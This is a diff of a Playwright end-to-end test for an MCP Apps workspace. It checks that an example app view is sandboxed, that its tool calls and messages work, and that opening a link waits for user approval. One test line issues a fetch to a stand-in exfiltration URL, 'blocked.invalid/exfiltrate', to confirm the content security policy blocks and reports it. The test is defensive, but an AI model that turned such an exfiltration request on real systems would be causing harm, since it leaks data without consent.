@@ -8,6 +8,7 @@
 import { readFileSync } from 'node:fs'
 import { createRequire } from 'node:module'
 import { fileURLToPath } from 'node:url'
+import { npmServers } from '@mcp-kit/fixtures'
 import type { Browser, Page } from 'playwright-core'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { binPath } from './helpers.js'
@@ -15,6 +16,8 @@ import { addServer, launchChromium, type RunningUi, serverButton, startUi } from
 
 const registry = fileURLToPath(new URL('./fixtures/apps-registry.mjs', import.meta.url))
 const appsServer = `node ${binPath} serve --stdio ${registry}`
+// The ext-apps project's own example (npm @modelcontextprotocol/server-basic-vanillajs).
+const exampleServer = `node ${npmServers.basicApp} --stdio`
 
 declare const window: { axe: { run: (context: unknown) => Promise<unknown> } }
 declare const document: unknown
@@ -32,22 +35,35 @@ afterAll(async () => {
   await browser?.close()
 })
 
-async function openWeatherView(): Promise<Page> {
+/** A new page with the server added (once per workspace), its tool called: its view opens. */
+async function openView(server: string, name: string | RegExp, tool: string): Promise<Page> {
   const page = await browser.newPage({ viewport: { width: 1400, height: 1000 } })
   page.on('pageerror', (error) => {
     throw error
   })
   await page.goto(ui.url)
   await page.locator('ul[aria-label="Servers"][aria-busy="false"]').waitFor()
-  if ((await serverButton(page, 'apps-fixture').count()) === 0) await addServer(page, appsServer)
-  await serverButton(page, 'apps-fixture').first().click()
+  if ((await serverButton(page, name).count()) === 0) await addServer(page, server)
+  await serverButton(page, name).first().click()
   await page.getByRole('button', { name: /^Tools/ }).click()
   await page
     .getByRole('list', { name: 'Tools' })
-    .getByRole('button', { name: /^weather/ })
+    .getByRole('button', { name: new RegExp(`^${tool}`) })
     .click()
-  await page.getByRole('button', { name: 'Call weather', exact: true }).click()
+  await page.getByRole('button', { name: `Call ${tool}`, exact: true }).click()
   return page
+}
+
+const openWeatherView = () => openView(appsServer, 'apps-fixture', 'weather')
+
+/** The view's frame (the inner one, on the sandbox's origin), once it is there. */
+async function viewFrame(page: Page) {
+  await expect
+    .poll(() => page.frames().some((frame) => frame.url().includes('/view/')), { timeout: 15_000 })
+    .toBe(true)
+  const view = page.frames().find((frame) => frame.url().includes('/view/'))
+  if (view === undefined) throw new Error('no view frame')
+  return view
 }
 
 type Row = {
@@ -138,6 +154,71 @@ describe('MCP Apps in the workspace', () => {
     await section.getByRole('button', { name: 'Close view' }).click()
     await section.getByText('The view was closed.').waitFor()
     expect((await appRows(page)).some((row) => row.message.method === 'ui/resource-teardown')).toBe(true)
+    await page.close()
+  }, 120_000)
+
+  it("the ext-apps example from npm (server-basic-vanillajs): its view renders on the sandbox's origin, calls its tool, sends a log and a message; a link waits for the person; a fetch it did not declare is a CSP violation", async () => {
+    const page = await openView(exampleServer, /Basic MCP App/, 'get-time')
+    const section = page.getByRole('region', { name: 'App view of get-time' })
+    await section.waitFor({ timeout: 30_000 })
+    const view = await viewFrame(page)
+    expect(new URL(view.url()).origin).not.toBe(ui.origin)
+    // The tool result the page sent is what the view shows first.
+    const time = view.locator('#server-time')
+    await expect.poll(() => time.textContent(), { timeout: 15_000 }).toMatch(/^\d{4}-\d\d-\d\dT/)
+    const first = await time.textContent()
+    const serverCalls = async () => {
+      const rows = (await (await page.request.get(`${ui.origin}/api/timeline`)).json()) as Row[]
+      return rows.filter(
+        (row) =>
+          row.channel === undefined &&
+          row.direction === 'sent' &&
+          row.message.method === 'tools/call' &&
+          (row.message as { params?: { name?: string } }).params?.name === 'get-time',
+      ).length
+    }
+    expect(await serverCalls()).toBe(1)
+    // The view's own call goes to the server through the workspace's session.
+    await page.waitForTimeout(5) // a new ISO time needs the clock to move
+    await view.getByRole('button', { name: 'Get Server Time' }).click()
+    await expect.poll(serverCalls).toBe(2)
+    await expect.poll(() => time.textContent()).not.toBe(first)
+    await view.getByRole('button', { name: 'Send Log' }).click()
+    await view.getByRole('button', { name: 'Send Message' }).click()
+    await expect
+      .poll(() => section.getByTestId('app-messages').textContent())
+      .toContain('message: This is message text.')
+    // A link is only offered: nothing opens until the person says so.
+    const pages = browser.contexts().flatMap((context) => context.pages()).length
+    await view.getByRole('button', { name: 'Open Link' }).click()
+    const ask = section.getByRole('alertdialog', { name: 'The view asks to open a link' })
+    await expect.poll(() => ask.textContent()).toContain('https://modelcontextprotocol.io/')
+    await ask.getByRole('button', { name: 'Dismiss' }).click()
+    await ask.waitFor({ state: 'detached' })
+    expect(browser.contexts().flatMap((context) => context.pages()).length).toBe(pages)
+    // The example declares no connectDomains: a fetch from inside it is blocked, and reported.
+    const fetched = await view.evaluate(() =>
+      fetch('https://blocked.invalid/exfiltrate').then(
+        () => 'went through',
+        () => 'blocked',
+      ),
+    )
+    expect(fetched).toBe('blocked')
+    await expect
+      .poll(() => section.getByTestId('csp-violations').textContent())
+      .toContain('CSP blocked connect-src: https://blocked.invalid/exfiltrate')
+    const methods = (await appRows(page)).map((row) => `${row.direction} ${row.message.method ?? 'answer'}`)
+    expect(methods).toEqual(
+      expect.arrayContaining([
+        'received ui/initialize',
+        'sent ui/notifications/tool-result',
+        'received tools/call',
+        'received notifications/message',
+        'received ui/message',
+        'received ui/open-link',
+        'received mcp-kit/csp-violation',
+      ]),
+    )
     await page.close()
   }, 120_000)
 
